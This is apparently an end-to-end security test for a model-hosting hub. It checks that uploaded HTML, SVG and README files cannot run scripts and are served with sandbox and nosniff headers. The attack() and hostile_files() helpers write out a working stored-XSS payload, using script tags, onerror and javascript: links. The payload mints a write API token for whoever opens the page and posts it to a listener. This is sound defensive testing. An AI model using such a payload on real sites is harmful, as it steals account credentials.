"""Stored XSS through user files: alice uploads pages with scripts (an .html, an .svg, an .html in
a subfolder, a README with raw <script> and an <img onerror>) to a public repository, and a
signed-in staff member opens them from every page of the hub that links or serves them. Had any
script run, it would have renamed the page, issued a write token for the staff member on the
Tokens page and sent it to a listener on loopback."""

from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit, urlunsplit

import httpx2
import pytest
from django.contrib.auth.models import User
from huggingface_hub import CommitOperationAdd, HfApi

from hub.api.models import ApiToken
from hub.catalog.checkpoints import sha256_file
from hub.catalog.models import BaseModel, Variant
from hub.jobs.models import Job, Recipe
from tests.helpers import Listener

pytestmark = [pytest.mark.e2e, pytest.mark.slow]

STAFF_PASSWORD = "root-password-1"


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener(headers={"Access-Control-Allow-Origin": "*"})
    yield server
    server.close()


def attack(listener: Listener) -> str:
    """What the planted script does with the rights of whoever opens it."""
    return (
        "document.title = 'pwned';"
        f"new Image().src = '{listener.url}/ran?at=' + encodeURIComponent(location.href);"
        "fetch('/tokens/', {credentials: 'include'}).then(r => r.text()).then(t => {"
        '  const csrf = t.match(/name="csrfmiddlewaretoken" value="([^"]+)"/)[1];'
        "  return fetch('/tokens/', {method: 'POST', credentials: 'include',"
        "    headers: {'Content-Type': 'application/x-www-form-urlencoded'},"
        "    body: 'csrfmiddlewaretoken=' + csrf + '&name=stolen&scope=write'});"
        f"}}).then(r => r.text()).then(t => fetch('{listener.url}/token', {{method: 'POST', mode: 'no-cors', body: t}}));"
    )


def hostile_files(listener: Listener) -> dict[str, bytes]:
    js = attack(listener)
    html = f"<!doctype html><html><body><h1>hello</h1><script>{js}</script></body></html>".encode()
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script><![CDATA[{js}]]></script></svg>'
    ).encode()
    readme = (
        "---\nlicense: mit\n---\n# Evil model\n\n"
        f"<script>{js}</script>\n\n"
        f'<img src="x" onerror="{js.replace(chr(34), "&quot;")}">\n\n'
        f"[click me](javascript:{js.replace(chr(41), '%29')})\n"
    ).encode()
    return {"evil.html": html, "evil.svg": svg, "docs/deep/evil.html": html, "README.md": readme}


def upload(hub_url: str, token: str, files: dict[str, bytes], monkeypatch) -> None:
    from huggingface_hub import constants

    monkeypatch.setattr(constants, "HF_HUB_OFFLINE", False)
    monkeypatch.setattr(constants, "HF_HUB_DISABLE_XET", True)
    api = HfApi(endpoint=hub_url, token=token)
    api.create_repo("alice/evil")
    api.create_commit("alice/evil", [CommitOperationAdd(p, data) for p, data in files.items()], commit_message="hello")


def catalog_rows(files: dict[str, bytes], folder: Path) -> tuple[BaseModel, Variant]:
    """A base model fetched from alice/evil and a variant of it, as the stages record them."""
    folder.mkdir()
    for path, data in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(data)
    rows = [{"path": p, "size": len(d), "sha256": sha256_file(folder / p)} for p, d in files.items()]
    base = BaseModel.objects.create(
        name="alice/evil",
        hf_repo_id="alice/evil",
        on_this_hub=True,
        local_path=str(folder),
        files=rows,
        status=BaseModel.Status.READY,
        architecture="LlamaForCausalLM",
    )
    variant = Variant.objects.create(
        base=base,
        recipe=Recipe.for_preset("w8a8-int8"),
        name="alice/evil-w8a8",
        scheme="W8A8",
        local_path=str(folder),
        files=rows,
    )
    return base, variant


@pytest.fixture
def browser_context(browser):
    context = browser.new_context(accept_downloads=True)
    context.set_default_timeout(15_000)
    yield context
    context.close()


def sign_in(page, hub_url: str, username: str, password: str) -> None:
    page.goto(f"{hub_url}/accounts/login/")
    page.get_by_label("Username").fill(username)
    page.get_by_label("Password").fill(password)
    page.get_by_role("button", name="Sign in").click()
    page.get_by_role("button", name=f"Sign out {username}").wait_for()


def visit(page, url: str) -> str:
    """Open a URL as a click on it would; a download is not a page. Returns the page's title."""
    from playwright.sync_api import Error

    try:
        page.goto(url, wait_until="load")
    except Error as exc:
        if "Download is starting" not in str(exc) and "ERR_ABORTED" not in str(exc):
            raise
    page.wait_for_timeout(400)
    return page.title()


def without_query(url: str) -> str:
    return urlunsplit(urlsplit(url)._replace(query=""))


def test_it_never_runs_an_uploaded_page_in_the_hubs_origin(
    hub, alice, alice_token, listener, browser_context, tmp_path, monkeypatch
):
    files = hostile_files(listener)
    upload(hub.url, alice_token, files, monkeypatch)
    User.objects.create_user("root", password=STAFF_PASSWORD, is_staff=True, is_superuser=True)
    base, variant = catalog_rows(files, tmp_path / "snapshot")

    page = browser_context.new_page()
    sign_in(page, hub.url, "root", STAFF_PASSWORD)
    seen: list[str] = []
    pages = [f"{hub.url}/alice/evil", f"{hub.url}/models/{base.pk}/", f"{hub.url}/models/variants/{variant.pk}/"]
    for hub_page in pages:
        assert "pwned" not in visit(page, hub_page), f"a script ran on {hub_page}"
        links = page.eval_on_selector_all("a[href]", "as => as.map(a => a.href)")
        seen += [link for link in links if any(name in link for name in files)]
    # every file, by every link to it, as linked and opened in place; and the resolve URLs typed in
    resolve = [f"{hub.url}/alice/evil/resolve/main/{path}" for path in files]
    targets = sorted({*seen, *map(without_query, seen), *resolve})
    assert len(seen) >= 3 * len(files), seen  # the repository page and both catalog pages link each file
    for url in targets:
        assert "pwned" not in visit(page, url), f"a script ran at {url}"
    page.wait_for_timeout(1000)

    assert listener.requests == []
    assert not ApiToken.objects.filter(name="stolen").exists()


def test_it_serves_user_files_as_inert_bytes(hub, alice, alice_token, listener, tmp_path, monkeypatch):
    """The headers that keep them inert, on each view that serves them; the bytes are intact."""
    files = hostile_files(listener)
    upload(hub.url, alice_token, files, monkeypatch)
    base, variant = catalog_rows(files, tmp_path / "snapshot")
    urls = (
        [f"/alice/evil/resolve/main/{p}" for p in files]
        + [f"/models/{base.pk}/files/{p}" for p in files]
        + [f"/models/variants/{variant.pk}/files/{p}" for p in files]
    )
    for url in urls:
        response = httpx2.get(hub.url + url)
        assert response.status_code == 200, url
        assert response.content == files[url.split("/files/")[-1].split("/main/")[-1]]
        assert response.headers["Content-Type"].split(";")[0] in ("text/plain", "application/octet-stream"), url
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in response.headers["Content-Security-Policy"], url
    tar = httpx2.get(f"{hub.url}/alice/evil/archive/main.tar")
    assert tar.status_code == 200 and tar.headers["Content-Disposition"].startswith("attachment")
    assert "sandbox" in tar.headers["Content-Security-Policy"]


def test_it_runs_the_hubs_own_pages_under_a_policy_without_inline_code(
    hub, alice, alice_token, browser_context, monkeypatch
):
    """Every page of the hub carries a Content-Security-Policy, and the hub's own pages, the API
    docs and the admin included, work under it: nothing of theirs is refused."""
    upload(hub.url, alice_token, {"README.md": b"# fine\n", "config.json": b"{}"}, monkeypatch)
    staff = User.objects.create_user("root", password=STAFF_PASSWORD, is_staff=True, is_superuser=True)
    base = BaseModel.objects.create(name="org/tiny", status=BaseModel.Status.READY, architecture="LlamaForCausalLM")
    job = Job.submit(
        base_model=base, recipes=[Recipe.for_preset("w8a8-int8")], owner=staff, suite="", benchmark_profile=""
    )
    page = browser_context.new_page()
    refused: list[str] = []
    page.on("console", lambda m: refused.append(m.text) if "Content Security Policy" in m.text else None)
    sign_in(page, hub.url, "root", STAFF_PASSWORD)
    pages = (
        "/",
        "/repos/",
        "/alice/evil",
        f"/models/{base.pk}/",
        f"/models/{base.pk}/compare/",
        "/jobs/",
        f"/jobs/{job.pk}/",
        "/jobs/new/",
        "/tokens/",
        "/admin/",
        f"/admin/auth/user/{staff.pk}/change/",
    )
    for path in pages:
        response = page.goto(hub.url + path)
        assert response.ok, path
        policy = response.headers["content-security-policy"]
        assert "script-src 'self'" in policy and "unsafe-inline" not in policy, path
    page.goto(f"{hub.url}/api/v1/docs")
    page.locator(".swagger-ui .info .title").wait_for()
    page.wait_for_timeout(500)
    assert refused == []
